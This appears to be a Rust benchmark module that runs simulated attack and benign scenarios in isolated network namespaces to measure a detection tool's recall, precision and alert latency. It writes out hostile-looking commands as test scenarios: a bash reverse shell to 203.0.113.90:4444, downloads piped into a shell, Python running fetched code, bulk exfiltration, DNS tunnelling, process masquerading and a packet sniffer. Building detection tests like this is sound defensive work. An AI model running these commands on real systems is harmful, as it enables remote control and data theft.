//! `procflow-bench detect`: attack and benign scenarios as real processes and sockets,
//! watched by a real collector without privileges in both access modes — as the victims'
//! own user (`pfbench`, created if missing), and as `nobody` (another uid, no ptrace
//! access) — with the managed rules evaluating its records as they arrive. Reports recall
//! per family, alerts on benign scenarios, precision, and alert latency.
//!
//! Every scenario runs in a pod-like network namespace whose "internet" peer plays the
//! resolver and the exfiltration sink; the collector runs in the pod namespace. An alert
//! belongs to a scenario when it names one of the scenario's processes, or, for a socket
//! whose owner stayed unknown, when its output names the scenario's peer address.

use std::collections::HashSet;
use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use procflow::model::{CollectorIdentity, Event, Record};
use procflow::rules::{Engine, RuleSet};

use crate::{procflow_bin, Report};

const USER: &str = "pfbench";
const POD: &str = "pfb-pod";
const WORLD: &str = "pfb-world";
const PY: &str = "/usr/bin/python3";

struct Scenario {
    family: &'static str,
    name: &'static str,
    attack: bool,
    /// What it runs (`sh -c`, as the victims' user, in the pod namespace); `{dir}` is a
    /// scratch directory the user owns, `{shm}` one under /dev/shm, `{url}` a script
    /// server on loopback.
    script: &'static str,
    /// Text an alert on one of its unattributed sockets names (its peer), if any.
    marker: Option<&'static str>,
    /// Process rules are held to the latency target (0.5 s median).
    process_rule: bool,
    /// Runs as root in the pod namespace (with CAP_NET_RAW, as a container keeping
    /// Docker's default capabilities would), not as the victims' user.
    root: bool,
}

const SCENARIOS: &[Scenario] = &[
    // exec
    Scenario { family: "exec", name: "scratch-exec", attack: true, process_rule: true, marker: None, root: false,
        script: "cp /usr/bin/sleep {shm}/agent && {shm}/agent 2" },
    Scenario { family: "exec", name: "deleted-by-runner", attack: true, process_rule: true, marker: None, root: false,
        script: "/usr/bin/python3 -c \"import os,shutil\nshutil.copy('/usr/bin/sleep','{dir}/x')\nfd=os.open('{dir}/x',os.O_RDONLY)\nos.unlink('{dir}/x')\nos.execve(fd,['x','2'],{})\"" },
    Scenario { family: "exec", name: "scratch-relative", attack: true, process_rule: true, marker: None, root: false,
        script: "cp /usr/bin/sleep {shm}/job && cd {shm} && ./job 2" },
    Scenario { family: "exec", name: "replaced-shell-forks", attack: false, process_rule: true, marker: None, root: false,
        script: "cp /usr/bin/bash {dir}/bash && {dir}/bash -c 'sleep 0.3; rm -f {dir}/bash; cp /usr/bin/bash {dir}/bash; (sleep 1.5; true) & (sleep 1.5; true) & wait'" },
    Scenario { family: "exec", name: "usr-bin-job", attack: false, process_rule: true, marker: None, root: false,
        script: "for i in 1 2 3 4 5; do /usr/bin/sleep 0.3; date >/dev/null; done" },
    // masquerade
    Scenario { family: "masquerade", name: "kthread-retitle", attack: true, process_rule: true, marker: None, root: false,
        script: "bash -c \"exec -a '[kworker/1:2-events]' /usr/bin/python3 -c 'import ctypes,time; ctypes.CDLL(None).prctl(15, b\\\"[kworker/1:2-ev\\\", 0, 0, 0); time.sleep(2)'\"" },
    Scenario { family: "masquerade", name: "renamed-binary", attack: true, process_rule: true, marker: None, root: false,
        script: "cp {dir}/renamed {dir}/xmrig && bash -c 'exec -a awk {dir}/xmrig'" },
    Scenario { family: "masquerade", name: "awk-alternative", attack: false, process_rule: true, marker: None, root: false,
        script: "sleep 2 | awk '{print}'; echo x | nc -h >/dev/null 2>&1; true" },
    Scenario { family: "masquerade", name: "python-versioned", attack: false, process_rule: true, marker: None, root: false,
        script: "/usr/bin/python3 -c 'import time; time.sleep(2)'" },
    // shell
    Scenario { family: "shell", name: "download-into-shell", attack: true, process_rule: true, marker: None, root: false,
        script: "curl -fsS {url} | sh" },
    Scenario { family: "shell", name: "server-spawns-shell", attack: true, process_rule: true, marker: None, root: false,
        script: "/usr/bin/python3 -c \"import socket,subprocess,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen()\ntime.sleep(1)\nsubprocess.Popen('id >/dev/null; sleep 1.5', shell=True).wait()\"" },
    Scenario { family: "shell", name: "reverse-shell", attack: true, process_rule: true, marker: None, root: false,
        script: "bash -c 'bash -i >& /dev/tcp/203.0.113.90/4444 0>&1'" },
    Scenario { family: "shell", name: "interactive-session", attack: true, process_rule: true, marker: None, root: false,
        script: "script -qc 'for i in $(seq 20); do sh -c \"sleep 0.05\"; done; sleep 1' /dev/null </dev/null >/dev/null" },
    Scenario { family: "shell", name: "download-to-grep", attack: false, process_rule: true, marker: None, root: false,
        script: "curl -fsS {url} | grep -q sleep; sleep 2" },
    Scenario { family: "shell", name: "server-health-check", attack: false, process_rule: true, marker: None, root: false,
        script: "/usr/bin/python3 -c \"import socket,subprocess,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen()\ntime.sleep(1)\nsubprocess.Popen('curl -fsm1 http://127.0.0.1:%d/healthz' % s.getsockname()[1], shell=True).wait(); time.sleep(1)\"" },
    Scenario { family: "shell", name: "prefork-worker", attack: false, process_rule: true, marker: None, root: false,
        script: "/usr/bin/python3 -c \"import os,socket,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen()\ntime.sleep(1)\nif os.fork()==0:\n    time.sleep(1.5); os._exit(0)\nos.wait()\"" },
    Scenario { family: "shell", name: "script-pipes-download-into-shell", attack: true, process_rule: true, marker: None, root: false,
        script: "printf 'wget -qO- {url} | bash\\n' > {dir}/setup.sh && sh {dir}/setup.sh" },
    Scenario { family: "shell", name: "file-piped-into-shell", attack: false, process_rule: true, marker: None, root: false,
        script: "printf 'cat /etc/hostname >/dev/null; sleep 1.5\\n' > {dir}/local.sh && cat {dir}/local.sh | sh" },
    Scenario { family: "shell", name: "python-runs-its-download", attack: true, process_rule: true, marker: None, root: false,
        script: "/usr/bin/python3 -c \"import urllib.request,os; os.system(urllib.request.urlopen('{url}').read().decode())\"" },
    Scenario { family: "shell", name: "download-parsed-by-python", attack: false, process_rule: true, marker: None, root: false,
        script: "curl -fsS {url} | /usr/bin/python3 -c 'import sys; print(len(sys.stdin.read()))' >/dev/null; curl -fsS {url} | awk '{print $1}' >/dev/null; sleep 1.5" },
    // network
    Scenario { family: "network", name: "dns-tunnel", attack: true, process_rule: false, marker: Some("203.0.113.53:53"), root: false,
        script: "/usr/bin/python3 -c \"import socket,time\nfor i in range(150):\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('203.0.113.53',53)); s.send(b'q'); s.settimeout(1); s.recv(64); s.close(); time.sleep(0.01)\"" },
    Scenario { family: "network", name: "dns-cluster-resolver", attack: false, process_rule: false, marker: Some("10.96.0.10:53"), root: false,
        script: "/usr/bin/python3 -c \"import socket,time\nfor i in range(150):\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('10.96.0.10',53)); s.send(b'q'); s.settimeout(1); s.recv(64); s.close(); time.sleep(0.01)\"" },
    Scenario { family: "network", name: "exfil-150MiB-7MiBps", attack: true, process_rule: false, marker: Some("203.0.113.80:443"), root: false,
        script: "/usr/bin/python3 -c \"import socket,time,sys\nc=socket.create_connection(('203.0.113.80',443))\nb=b'x'*(1<<20); t0=time.time()\nfor i in range(150):\n    c.sendall(b)\n    if i==99: print('crossed', time.time(), flush=True)\n    d=t0+(i+1)/7-time.time()\n    if d>0: time.sleep(d)\nc.close()\"" },
    Scenario { family: "network", name: "upload-20MiB", attack: false, process_rule: false, marker: Some("203.0.113.81:443"), root: false,
        script: "/usr/bin/python3 -c \"import socket\nc=socket.create_connection(('203.0.113.81',443))\nc.sendall(b'x'*(20<<20)); c.close()\"" },
    Scenario { family: "network", name: "packet-sniffer", attack: true, process_rule: false, marker: Some("packet socket opened"), root: true,
        script: "/usr/bin/python3 -c \"import socket,time\ns=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(7)\"" },
    // `unshare -rn` as the victims' user (a container's bounding set kept): CAP_NET_RAW in
    // a network namespace of its own, whose sockets the pod's /proc/net/packet does not list.
    Scenario { family: "network", name: "packet-sniffer-own-netns", attack: true, process_rule: false, marker: Some("packet socket opened"), root: true,
        script: "setpriv --reuid=pfbench --regid=pfbench --clear-groups unshare -rn /usr/bin/python3 -c \"import socket,time\ns=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(4)\"" },
    Scenario { family: "network", name: "own-netns-listener", attack: false, process_rule: false, marker: Some("packet socket opened"), root: true,
        script: "setpriv --reuid=pfbench --regid=pfbench --clear-groups unshare -rn /usr/bin/python3 -c \"import socket,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen(); time.sleep(4)\"" },
];

struct Outcome {
    alerts: Vec<String>,
    /// Seconds from the scenario's start (or, for the exfiltration, from the moment it
    /// crossed the rule's 100 MiB) to its first alert.
    latency: Option<f64>,
}

pub fn scenario_detect(report: &mut Report) -> anyhow::Result<()> {
    setup()?;
    let _world = World::start()?;
    for (mode, prefix) in [("same uid", USER), ("other uid", "nobody")] {
        let outcomes = run_mode(prefix)?;
        summarize(report, mode, &outcomes);
    }
    Ok(())
}

fn sh(args: &[&str]) -> anyhow::Result<()> {
    let st = Command::new(args[0])
        .args(&args[1..])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()?;
    anyhow::ensure!(st.success(), "{args:?} failed");
    Ok(())
}

fn setup() -> anyhow::Result<()> {
    if Command::new("id")
        .arg(USER)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()?
        .success()
    {
    } else {
        sh(&["useradd", "-M", "-s", "/usr/sbin/nologin", USER])?;
    }
    let _ = Command::new("ip").args(["netns", "del", POD]).output();
    let _ = Command::new("ip").args(["netns", "del", WORLD]).output();
    sh(&["ip", "netns", "add", POD])?;
    sh(&["ip", "netns", "add", WORLD])?;
    sh(&[
        "ip", "link", "add", "vpfb0", "netns", POD, "type", "veth", "peer", "name", "vpfb1",
        "netns", WORLD,
    ])?;
    sh(&[
        "ip",
        "-n",
        POD,
        "addr",
        "add",
        "10.79.0.2/16",
        "dev",
        "vpfb0",
    ])?;
    sh(&[
        "ip",
        "-n",
        WORLD,
        "addr",
        "add",
        "10.79.0.1/16",
        "dev",
        "vpfb1",
    ])?;
    for a in [
        "203.0.113.53/32",
        "203.0.113.90/32",
        "203.0.113.80/32",
        "203.0.113.81/32",
        "10.96.0.10/32",
    ] {
        sh(&["ip", "-n", WORLD, "addr", "add", a, "dev", "vpfb1"])?;
    }
    for (ns, dev) in [(POD, "vpfb0"), (WORLD, "vpfb1")] {
        sh(&["ip", "-n", ns, "link", "set", dev, "up"])?;
        sh(&["ip", "-n", ns, "link", "set", "lo", "up"])?;
    }
    sh(&[
        "ip",
        "-n",
        POD,
        "route",
        "add",
        "default",
        "via",
        "10.79.0.1",
    ])?;
    Ok(())
}

/// The world's services: resolvers answering from the address asked, TCP sinks on 443,
/// and a script server in the pod for the download scenarios.
struct World(Vec<Child>);

impl World {
    fn start() -> anyhow::Result<World> {
        let services = "import socket,threading\ndef udp(a):\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind((a,53))\n    while True:\n        d,p=s.recvfrom(512); s.sendto(d,p)\ndef drain(c):\n    while c.recv(1<<20): pass\ndef tcp(a):\n    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind((a,443)); s.listen(16)\n    while True:\n        c,_=s.accept(); threading.Thread(target=drain,args=(c,),daemon=True).start()\nfor a in ('203.0.113.53','10.96.0.10'): threading.Thread(target=udp,args=(a,),daemon=True).start()\nfor a in ('203.0.113.80','203.0.113.81'): threading.Thread(target=tcp,args=(a,),daemon=True).start()\ndef shell():\n    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(('203.0.113.90',4444)); s.listen(16)\n    while True:\n        c,_=s.accept(); c.sendall(b'sleep 1.5; exit\\n'); threading.Thread(target=drain,args=(c,),daemon=True).start()\nthreading.Thread(target=shell,daemon=True).start()\nthreading.Event().wait()";
        let world = Command::new("ip")
            .args(["netns", "exec", WORLD, PY, "-c", services])
            .spawn()?;
        let dir = std::env::temp_dir().join("pfbench-www");
        std::fs::create_dir_all(&dir)?;
        std::fs::write(dir.join("x.sh"), "sleep 1.5\n")?;
        let www = Command::new("ip")
            .args([
                "netns",
                "exec",
                POD,
                PY,
                "-m",
                "http.server",
                "--bind",
                "127.0.0.1",
                "18080",
            ])
            .current_dir(&dir)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()?;
        std::thread::sleep(Duration::from_millis(800));
        Ok(World(vec![world, www]))
    }
}

impl Drop for World {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = Command::new("ip").args(["netns", "del", POD]).output();
        let _ = Command::new("ip").args(["netns", "del", WORLD]).output();
    }
}

/// `ip netns exec POD setpriv` as `user`, without any capability: what follows runs in
/// the pod namespace, unprivileged.
fn in_pod_as(user: &str, group: &str) -> Command {
    let mut c = Command::new("ip");
    c.args(["netns", "exec", POD, "setpriv"])
        .arg(format!("--reuid={user}"))
        .arg(format!("--regid={group}"))
        .args([
            "--clear-groups",
            "--inh-caps=-all",
            "--bounding-set=-all",
            "--no-new-privs",
        ]);
    c
}

/// Records as they arrive, stamped on arrival.
fn start_collector(user: &str) -> anyhow::Result<(Child, mpsc::Receiver<(Instant, String)>)> {
    let bin = procflow_bin();
    let group = if user == "nobody" { "nogroup" } else { user };
    let mut child = in_pod_as(user, group)
        .arg(&bin)
        .args(["collector", "--output", "stdout"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()?;
    let out = child
        .stdout
        .take()
        .ok_or_else(|| anyhow::anyhow!("no stdout"))?;
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(out).lines().map_while(Result::ok) {
            if tx.send((Instant::now(), line)).is_err() {
                break;
            }
        }
    });
    Ok((child, rx))
}

fn run_mode(collector_user: &str) -> anyhow::Result<Vec<(usize, Outcome)>> {
    // Not under a scratch path: the exec scenarios judge behaviour, not where a file is.
    std::fs::create_dir_all("/var/lib/pfbench")?;
    let dir = tempfile::Builder::new()
        .prefix("run-")
        .tempdir_in("/var/lib/pfbench")?;
    let shm = tempfile::Builder::new()
        .prefix(".pfb-")
        .tempdir_in("/dev/shm")?;
    compile_renamed(dir.path())?;
    for d in [dir.path(), shm.path()] {
        sh(&[
            "chown",
            "-R",
            &format!("{USER}:{USER}"),
            d.to_str().unwrap_or_default(),
        ])?;
    }
    let (mut collector, rx) = start_collector(collector_user)?;
    std::thread::sleep(Duration::from_secs(2));
    let mut engine = Engine::new(RuleSet::managed()?);
    let source = std::sync::Arc::new(CollectorIdentity {
        collector_id: "bench".into(),
        pod_name: "web-7c9f8d6b5-x2k4q".into(),
        pod_namespace: "shop".into(),
        ..CollectorIdentity::default()
    });
    let t0 = Instant::now();
    let mut pending: Vec<(Instant, Record)> = Vec::new();
    let mut alerts: Vec<(Instant, procflow::model::AlertRecord)> = Vec::new();
    let mut records: Vec<Record> = Vec::new();
    let mut drain =
        |engine: &mut Engine,
         records: &mut Vec<Record>,
         alerts: &mut Vec<(Instant, procflow::model::AlertRecord)>| {
            for (at, line) in rx.try_iter() {
                if let Ok(r) = serde_json::from_str::<Record>(&line) {
                    pending.push((at, r));
                }
            }
            for (at, record) in pending.drain(..) {
                let now = 1_000_000_000 + at.duration_since(t0).as_nanos() as u64;
                let ev = Event {
                    source: source.clone(),
                    received_at: now,
                    record: record.clone(),
                };
                for a in engine.evaluate(&ev, now) {
                    alerts.push((at, a));
                }
                records.push(record);
            }
        };
    let mut runs = Vec::new();
    for (i, s) in SCENARIOS.iter().enumerate() {
        let script = s
            .script
            .replace("{dir}", &dir.path().display().to_string())
            .replace("{shm}", &shm.path().display().to_string())
            .replace("{url}", "http://127.0.0.1:18080/x.sh");
        let started = Instant::now();
        let mut runner = if s.root {
            let mut c = Command::new("ip");
            c.args(["netns", "exec", POD]);
            c
        } else {
            in_pod_as(USER, USER)
        };
        let mut child = runner
            .args(["sh", "-c", &script])
            .current_dir(dir.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()?;
        let out = child.stdout.take();
        let crossed = std::thread::spawn(move || {
            out.and_then(|o| {
                BufReader::new(o)
                    .lines()
                    .map_while(Result::ok)
                    .find(|l| l.starts_with("crossed"))
                    .map(|_| Instant::now())
            })
        });
        let deadline = started + Duration::from_secs(40);
        while child.try_wait()?.is_none() && Instant::now() < deadline {
            drain(&mut engine, &mut records, &mut alerts);
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = child.kill();
        let _ = child.wait();
        // Late records (exits, destroy events, an early UPDATE) and alerts.
        let settle = Instant::now() + Duration::from_millis(2500);
        while Instant::now() < settle {
            drain(&mut engine, &mut records, &mut alerts);
            std::thread::sleep(Duration::from_millis(20));
        }
        let crossed = crossed.join().ok().flatten();
        runs.push((i, child.id(), started, crossed));
        eprintln!(
            "    {} ({}): done",
            s.name,
            if s.attack { "attack" } else { "benign" }
        );
    }
    let _ = Command::new("kill")
        .args(["-TERM", &collector.id().to_string()])
        .status();
    let _ = collector.wait();
    drain(&mut engine, &mut records, &mut alerts);
    let mut outcomes = Vec::new();
    for (i, pid, started, crossed) in runs {
        let s = &SCENARIOS[i];
        let mut family: HashSet<u32> = HashSet::from([pid]);
        for r in &records {
            if let Record::Process(p) = r {
                if p.pid == pid || p.ancestors.iter().any(|a| a.pid == pid && a.start_time > 0) {
                    family.insert(p.pid);
                }
            }
        }
        let mine: Vec<&(Instant, procflow::model::AlertRecord)> = alerts
            .iter()
            .filter(|(at, a)| {
                *at >= started
                    && (a.process.as_ref().is_some_and(|p| family.contains(&p.pid))
                        || s.marker.is_some_and(|m| a.output.contains(m)))
            })
            .collect();
        let from = crossed.unwrap_or(started);
        outcomes.push((
            i,
            Outcome {
                alerts: mine.iter().map(|(_, a)| a.rule_id.clone()).collect(),
                latency: mine
                    .iter()
                    .map(|(at, _)| at.saturating_duration_since(from).as_secs_f64())
                    .reduce(f64::min),
            },
        ));
    }
    Ok(outcomes)
}

fn compile_renamed(dir: &std::path::Path) -> anyhow::Result<()> {
    let src = dir.join("renamed.c");
    std::fs::write(&src, "#include <sys/prctl.h>\n#include <unistd.h>\nint main(void){prctl(PR_SET_NAME,\"awk\");sleep(2);return 0;}\n")?;
    let bin = dir.join("renamed");
    sh(&[
        "gcc",
        "-o",
        bin.to_str().unwrap_or_default(),
        src.to_str().unwrap_or_default(),
    ])
}

fn summarize(report: &mut Report, mode: &str, outcomes: &[(usize, Outcome)]) {
    let families = ["exec", "masquerade", "shell", "network"];
    let mut recalls = Vec::new();
    let mut process_latencies = Vec::new();
    let mut benign_alerting = 0;
    for family in families {
        let of = |attack: bool| {
            outcomes.iter().filter(move |(i, _)| {
                SCENARIOS[*i].family == family && SCENARIOS[*i].attack == attack
            })
        };
        let attacks = of(true).count();
        let caught = of(true).filter(|(_, o)| !o.alerts.is_empty()).count();
        let tp: usize = of(true).map(|(_, o)| o.alerts.len()).sum();
        let fp: usize = of(false).map(|(_, o)| o.alerts.len()).sum();
        benign_alerting += of(false).filter(|(_, o)| !o.alerts.is_empty()).count();
        let recall = caught as f64 / attacks.max(1) as f64;
        recalls.push(recall);
        report.add(
            &format!("detect {mode}"),
            &format!("{family}: recall ({caught}/{attacks})"),
            recall,
            "",
            None,
        );
        let precision = if tp + fp == 0 {
            1.0
        } else {
            tp as f64 / (tp + fp) as f64
        };
        report.add(
            &format!("detect {mode}"),
            &format!("{family}: precision ({tp} alerts on attacks, {fp} on benign)"),
            precision,
            "",
            Some(("1.00", fp == 0)),
        );
        for (i, o) in of(true) {
            eprintln!(
                "    {mode} {}: {:?} latency {:?}",
                SCENARIOS[*i].name, o.alerts, o.latency
            );
            if SCENARIOS[*i].process_rule {
                process_latencies.extend(o.latency);
            }
        }
        for (i, o) in of(false) {
            if !o.alerts.is_empty() {
                eprintln!(
                    "    {mode} benign {} alerted: {:?}",
                    SCENARIOS[*i].name, o.alerts
                );
            }
        }
    }
    let macro_recall = recalls.iter().sum::<f64>() / recalls.len() as f64;
    let target = if mode == "same uid" { 0.95 } else { 0.90 };
    report.add(
        &format!("detect {mode}"),
        "macro recall",
        macro_recall,
        "",
        Some((
            if mode == "same uid" {
                ">=0.95"
            } else {
                ">=0.90"
            },
            macro_recall >= target,
        )),
    );
    report.add(
        &format!("detect {mode}"),
        "benign scenarios alerting",
        benign_alerting as f64,
        "",
        Some(("0", benign_alerting == 0)),
    );
    process_latencies.sort_by(f64::total_cmp);
    if let Some(median) = process_latencies.get(process_latencies.len() / 2) {
        report.add(
            &format!("detect {mode}"),
            "process rules: median alert latency after the scenario started",
            *median,
            "s",
            Some(("<=0.5 s", *median <= 0.5)),
        );
    }
    if let Some((_, o)) = outcomes
        .iter()
        .find(|(i, _)| SCENARIOS[*i].name.starts_with("exfil"))
    {
        match o.latency {
            Some(l) => report.add(
                &format!("detect {mode}"),
                "150 MiB at 7 MiB/s: volume alert after 100 MiB were sent",
                l,
                "s",
                Some(("<=5 s", l <= 5.0)),
            ),
            None => report.skip(
                &format!("detect {mode}"),
                "the exfiltration raised no alert",
            ),
        }
    }
}
